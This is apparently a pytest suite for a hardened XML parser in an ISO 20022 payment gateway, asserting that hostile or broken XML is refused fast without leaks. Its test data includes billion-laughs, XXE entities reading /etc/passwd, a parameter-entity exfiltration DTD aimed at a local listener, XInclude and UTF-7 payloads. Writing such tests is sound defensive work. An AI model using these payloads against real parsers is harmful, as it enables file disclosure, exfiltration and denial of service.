"""Hostile and broken XML through the one door: each is refused quickly, with a
typed InvalidInput, the right code and an FF01 finding, and nothing leaks."""

from __future__ import annotations

import gzip
import io
import random
import socket
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
from lxml import etree

from gateway.domain.errors import InvalidInput
from gateway.domain.findings import Severity
from gateway.iso20022.xmlsafe import DEFAULT_MAX_BYTES, HEAD_BYTES, iterparse, open_stream, parse_document

FAST = 5.0  # seconds: a refusal must never be slow (generous: CI machines are shared)
NS = "urn:iso:std:iso:20022:tech:xsd:pain.001.001.09"
VALID = f'<?xml version="1.0" encoding="UTF-8"?>\n<Document xmlns="{NS}"><MsgId>M-1</MsgId></Document>\n'.encode()


def consume(source, mode: str, **kwargs) -> None:
    if mode == "parse":
        parse_document(source, **kwargs)
    else:
        for _ in iterparse(source, events=("start", "end"), **kwargs):
            pass


def refused(source, code: str, mode: str = "parse", **kwargs) -> InvalidInput:
    """Assert ``source`` is refused with ``code`` within FAST seconds."""
    start = time.monotonic()
    with pytest.raises(InvalidInput) as info:
        consume(source, mode, **kwargs)
    elapsed = time.monotonic() - start
    assert elapsed < FAST, f"refusal took {elapsed:.2f}s"
    exc = info.value
    assert exc.code == code, exc.message
    assert len(exc.findings) == 1
    finding = exc.findings[0]
    assert finding.reason == "FF01"
    assert finding.severity is Severity.ERROR
    assert finding.rule.startswith("xml.")
    assert finding.message == exc.message
    return exc


def everything_said(exc: InvalidInput) -> str:
    """All text the refusal carries, including chained causes."""
    parts = [str(exc), repr(exc.findings)]
    cause = exc.__cause__
    while cause is not None:
        parts.append(repr(cause))
        cause = cause.__cause__
    return "\n".join(parts)


@pytest.fixture(params=["parse", "iterparse"])
def mode(request) -> str:
    return request.param


@pytest.fixture
def secret_file(tmp_path: Path) -> tuple[Path, str]:
    marker = f"SECRET-{uuid.uuid4().hex}"
    path = tmp_path / "secret.txt"
    path.write_text(marker + "\n")
    return path, marker


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A local 'attacker' server: the test fails if the parser ever connects."""
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.setblocking(False)
    yield server
    server.close()


def assert_no_connection(server: socket.socket) -> None:
    time.sleep(0.05)
    with pytest.raises(BlockingIOError):
        server.accept()


def long_prolog(doctype: bytes) -> bytes:
    """A DOCTYPE hidden behind a comment longer than the inspected head."""
    return b'<?xml version="1.0"?>\n<!--' + b"x" * (HEAD_BYTES + 1000) + b"-->\n" + doctype


# --------------------------------------------------------------------------- accepted


def test_valid_document_parses_with_comments_kept() -> None:
    tree = parse_document(VALID.replace(b"<MsgId>", b"<!-- kept --><MsgId>"))
    assert etree.QName(tree.getroot()).namespace == NS
    assert tree.getroot()[0].text == " kept "
    assert tree.getroot().findtext(f"{{{NS}}}MsgId") == "M-1"


def test_utf16_with_bom_and_declared_latin1_are_accepted() -> None:
    text = '<?xml version="1.0" encoding="UTF-16"?><Document><Nm>Zoë €</Nm></Document>'
    assert parse_document(text.encode("utf-16")).getroot().findtext("Nm") == "Zoë €"
    latin = '<?xml version="1.0" encoding="ISO-8859-1"?><Document><Nm>Zoë</Nm></Document>'.encode("latin-1")
    assert parse_document(latin).getroot().findtext("Nm") == "Zoë"


def test_all_source_kinds(tmp_path: Path) -> None:
    path = tmp_path / "doc.xml"
    path.write_bytes(VALID)
    for source in (VALID, bytearray(VALID), str(path), path, io.BytesIO(VALID)):
        assert parse_document(source).getroot().findtext(f"{{{NS}}}MsgId") == "M-1"
    with path.open("rb") as fh:
        assert parse_document(fh).getroot() is not None
        assert not fh.closed  # the caller's stream stays the caller's


def test_str_of_xml_text_is_a_type_error_not_a_path() -> None:
    with pytest.raises(TypeError):
        parse_document(VALID.decode())


def test_iterparse_streams_filtered_elements() -> None:
    doc = b"<Stmt>" + b"".join(b"<Ntry><Amt>%d</Amt></Ntry>" % i for i in range(50)) + b"</Stmt>"
    amounts = [element.findtext("Amt") for _, element in iterparse(doc, tag="Ntry")]
    assert amounts == [str(i) for i in range(50)]
    events = {event for event, _ in iterparse(doc, events=("end",))}
    assert events == {"end"}  # the 'start' events used internally are not leaked


def test_open_stream_replays_the_whole_document() -> None:
    big = VALID.replace(b"M-1", b"M" * (3 * HEAD_BYTES))
    with open_stream(big) as stream:
        assert stream.read() == big


def test_document_at_exactly_max_bytes_is_accepted(mode: str) -> None:
    consume(VALID, mode, max_bytes=len(VALID))
    refused(VALID, "xml_too_large", mode, max_bytes=len(VALID) - 1)


# --------------------------------------------------------------------------- DTDs and entities


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>
"""


def test_billion_laughs(mode: str) -> None:
    exc = refused(BILLION_LAUGHS, "xml_dtd_forbidden", mode)
    assert exc.findings[0].rule == "xml.dtd"
    assert exc.findings[0].line == 2


def test_xxe_etc_passwd_is_never_read(mode: str) -> None:
    doc = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    exc = refused(doc, "xml_dtd_forbidden", mode)
    said = everything_said(exc)
    assert "root:" not in said and "/bin/" not in said


@pytest.mark.parametrize("hidden", [False, True], ids=["in-head", "behind-long-comment"])
def test_xxe_secret_file_content_never_appears(mode: str, secret_file, hidden: bool) -> None:
    path, marker = secret_file
    doctype = f'<!DOCTYPE r [<!ENTITY x SYSTEM "{path.as_uri()}">]><r>&x;</r>'.encode()
    doc = long_prolog(doctype) if hidden else b'<?xml version="1.0"?>' + doctype
    exc = refused(doc, "xml_dtd_forbidden", mode)
    assert marker not in everything_said(exc)


@pytest.mark.parametrize("hidden", [False, True], ids=["in-head", "behind-long-comment"])
def test_external_dtd_over_http_is_never_fetched(mode: str, listener, hidden: bool) -> None:
    port = listener.getsockname()[1]
    doctype = f'<!DOCTYPE r SYSTEM "http://127.0.0.1:{port}/evil.dtd"><r/>'.encode()
    refused(long_prolog(doctype) if hidden else doctype, "xml_dtd_forbidden", mode)
    assert_no_connection(listener)


def test_parameter_entities(mode: str, listener, secret_file) -> None:
    port = listener.getsockname()[1]
    path, marker = secret_file
    doc = (f'<?xml version="1.0"?>\n<!DOCTYPE r [\n'
           f' <!ENTITY % file SYSTEM "{path.as_uri()}">\n'
           f' <!ENTITY % dtd SYSTEM "http://127.0.0.1:{port}/exfil.dtd">\n'
           f' %dtd;\n]>\n<r/>').encode()
    exc = refused(doc, "xml_dtd_forbidden", mode)
    assert marker not in everything_said(exc)
    assert_no_connection(listener)


def test_lowercase_or_bare_entity_declarations_are_refused_too(mode: str) -> None:
    refused(b'<!doctype r [<!ENTITY a "b">]><r/>', "xml_dtd_forbidden", mode)
    refused(b'<?xml version="1.0"?><!-- c --><!ENTITY a "b"><r/>', "xml_dtd_forbidden", mode)


def test_xinclude(mode: str, secret_file) -> None:
    path, marker = secret_file
    doc = (f'<Document xmlns:xi="http://www.w3.org/2001/XInclude"><A><B>'
           f'<xi:include href="{path.as_uri()}" parse="text"/></B></A></Document>').encode()
    exc = refused(doc, "xml_xinclude_forbidden", mode)
    assert exc.findings[0].rule == "xml.xinclude"
    assert marker not in everything_said(exc)


def test_xinclude_cannot_hide_behind_an_iterparse_tag_filter() -> None:
    doc = b'<Document xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="x"/><Ntry/></Document>'
    with pytest.raises(InvalidInput) as info:
        list(iterparse(doc, tag="Ntry"))
    assert info.value.code == "xml_xinclude_forbidden"


def test_xinclude_deep_in_a_stream_is_caught_even_when_elements_are_cleared() -> None:
    filler = b"<Ntry><Amt>1</Amt></Ntry>" * 100_000  # megabytes before the include: past any read-ahead
    doc = (b"<Document>" + filler + b'<Ntry xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="x"/></Ntry>'
           + filler + b"</Document>")
    seen = 0
    with pytest.raises(InvalidInput) as info:
        for _, element in iterparse(doc, tag="Ntry"):
            seen += 1
            element.clear()
            parent = element.getparent()
            while element.getprevious() is not None:
                del parent[0]
    assert info.value.code == "xml_xinclude_forbidden"
    assert seen < 200_000  # refused on the way, not after the whole stream


# --------------------------------------------------------------------------- not XML


def test_json_body(mode: str) -> None:
    exc = refused(b'{"GrpHdr": {"MsgId": "M-1"}}', "xml_not_well_formed", mode)
    assert exc.findings[0].rule == "xml.not_xml"
    assert "JSON" in exc.message


@pytest.mark.parametrize("body", [b"", b"   \r\n\t  ", "\ufeff".encode("utf-8")], ids=["empty", "whitespace", "bom-only"])
def test_empty(mode: str, body: bytes) -> None:
    exc = refused(body, "xml_empty", mode)
    assert exc.findings[0].rule == "xml.empty"


def test_empty_file(mode: str, tmp_path: Path) -> None:
    path = tmp_path / "empty.xml"
    path.write_bytes(b"")
    refused(path, "xml_empty", mode)


@pytest.mark.parametrize(
    "body",
    [
        random.Random(20022).randbytes(64 * 1024),
        b"\x89PNG\r\n\x1a\n" + random.Random(1).randbytes(4096),
        gzip.compress(VALID),  # libxml2 would inflate this transparently; it must not get the chance
        b"PK\x03\x04" + bytes(200),
        b"\x00\x01\x02<Document/>",
    ],
    ids=["random", "png", "gzip", "zip", "nul-prefixed"],
)
def test_binary_garbage(mode: str, body: bytes) -> None:
    exc = refused(body, "xml_not_well_formed", mode)
    assert exc.findings[0].line == 1


def test_truncated_and_broken_documents_report_a_line(mode: str) -> None:
    exc = refused(VALID[:-15], "xml_not_well_formed", mode)
    assert exc.findings[0].rule == "xml.syntax"
    exc = refused(b"<a>\n<b>\n</a>", "xml_not_well_formed", mode)
    assert exc.findings[0].line == 3


# --------------------------------------------------------------------------- encodings


@pytest.mark.parametrize(
    "body",
    [
        '<?xml version="1.0" encoding="UTF-8"?>\n<Document><Nm>Zoë</Nm></Document>'.encode("latin-1"),
        '<Document><Nm>Zoë</Nm></Document>'.encode("latin-1"),  # undeclared, so UTF-8, and not UTF-8
        '<?xml version="1.0" encoding="US-ASCII"?><Document>é</Document>'.encode("latin-1"),
        b'<?xml version="1.0" encoding="UTF-16"?><Document/>',  # 8-bit bytes claiming UTF-16
        b'\xef\xbb\xbf<?xml version="1.0" encoding="ISO-8859-1"?><Document/>',  # BOM says otherwise
        '<?xml version="1.0" encoding="UTF-8"?><Document/>'.encode("utf-16"),  # UTF-16 claiming UTF-8
        b'<?xml version="1.0" encoding="x-no-such-charset"?><Document/>',
        b'<?xml version="1.0" encoding="UTF-7"?><Document>+ADw-script+AD4-</Document>',
        '<?xml version="1.0" encoding="UTF-32"?><Document/>'.encode("utf-32"),
    ],
    ids=["latin1-as-utf8", "undeclared-latin1", "non-ascii-as-ascii", "utf16-on-8bit", "bom-conflict",
         "utf16-claims-utf8", "unknown-name", "utf7", "utf32"],
)
def test_wrong_or_unsupported_encoding(mode: str, body: bytes) -> None:
    exc = refused(body, "xml_encoding", mode)
    assert exc.findings[0].rule == "xml.encoding"
    assert exc.findings[0].line is not None


def test_invalid_utf8_deep_in_a_large_document_has_its_line(mode: str) -> None:
    filler = b"".join(b"<Ntry>%d</Ntry>\n" % i for i in range(20000))  # well past the inspected head
    doc = b'<?xml version="1.0" encoding="UTF-8"?>\n<Stmt>\n' + filler + b"<Nm>Zo\xeb</Nm>\n</Stmt>"
    exc = refused(doc, "xml_encoding", mode)
    assert exc.findings[0].line == 20003


# --------------------------------------------------------------------------- size and depth


def test_oversized_bytes(mode: str) -> None:
    doc = b"<Document>" + b"<Ntry/>" * 1000 + b"</Document>"
    exc = refused(doc, "xml_too_large", mode, max_bytes=4096)
    assert exc.findings[0].rule == "xml.size"
    assert str(len(doc)) in exc.message


def test_oversized_file_is_refused_from_its_size(mode: str, tmp_path: Path) -> None:
    path = tmp_path / "huge.xml"
    with path.open("wb") as fh:  # sparse: 64 GiB that would take far longer than FAST to read
        fh.write(b"<Document>")
        fh.truncate(64 * 1024**3)
    refused(path, "xml_too_large", mode)
    with path.open("rb") as fh:
        refused(fh, "xml_too_large", mode)
        assert fh.tell() == 0  # not a byte read


def test_default_limit_is_100_mib() -> None:
    assert DEFAULT_MAX_BYTES == 100 * 1024 * 1024


class Endless(io.RawIOBase):
    """An unseekable upload of well-formed XML, <Document><Ntry>1</Ntry>..., that
    only stops (unclosed) after ``cap`` bytes, so a missing size guard fails the
    test instead of hanging it."""

    def __init__(self, cap: int) -> None:
        self.served = 0
        self.cap = cap
        self._pending = b"<Document>"

    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:
        if self.served >= self.cap:
            return 0
        while len(self._pending) < len(buffer):
            self._pending += b"<Ntry>1</Ntry>" * 1024
        data, self._pending = self._pending[:len(buffer)], self._pending[len(buffer):]
        buffer[:len(data)] = data
        self.served += len(data)
        return len(data)


def test_oversized_stream_is_cut_off_while_reading(mode: str) -> None:
    limit = 2 * 1024 * 1024
    stream = Endless(cap=20 * limit)
    exc = refused(stream, "xml_too_large", mode, max_bytes=limit)
    assert exc.findings[0].rule == "xml.size"
    assert limit < stream.served <= limit + 2 * HEAD_BYTES


def test_5mb_deep_nesting(mode: str) -> None:
    depth = 5 * 1024 * 1024 // 6
    doc = b"<a>" * depth + b"</a>" * depth
    assert len(doc) > 5 * 1024 * 1024
    exc = refused(doc, "xml_too_large", mode)
    assert exc.findings[0].rule == "xml.limit"


def test_text_node_over_10mb_hits_the_parser_limit(mode: str) -> None:
    doc = b"<Document><Ustrd>" + b"x" * (11 * 1024 * 1024) + b"</Ustrd></Document>"
    exc = refused(doc, "xml_too_large", mode)
    assert exc.findings[0].rule == "xml.limit"


# --------------------------------------------------------------------------- robustness


def test_mutated_documents_never_escape_as_raw_lxml_errors() -> None:
    base = (b'<?xml version="1.0" encoding="UTF-8"?>\n<Document xmlns="' + NS.encode() + b'">'
            b'<GrpHdr><MsgId>M&amp;1</MsgId><![CDATA[x<y]]><?pi x?></GrpHdr></Document>')
    rng = random.Random(9)
    outcomes = set()
    for _ in range(400):
        doc = bytearray(base)
        for _ in range(rng.randint(1, 4)):
            op = rng.choice(("flip", "cut", "insert"))
            pos = rng.randrange(len(doc))
            if op == "flip":
                doc[pos] = rng.randrange(256)
            elif op == "cut":
                del doc[pos:pos + rng.randint(1, 20)]
            else:
                doc[pos:pos] = rng.choice([b"<!DOCTYPE x>", b"&e;", b"\x00", b"]]>", b"<", b"\xff\xfe"])
        try:
            parse_document(bytes(doc))
            outcomes.add("ok")
        except InvalidInput as exc:
            assert exc.findings and exc.findings[0].reason == "FF01"
            outcomes.add(exc.code)
    assert "ok" in outcomes and "xml_not_well_formed" in outcomes
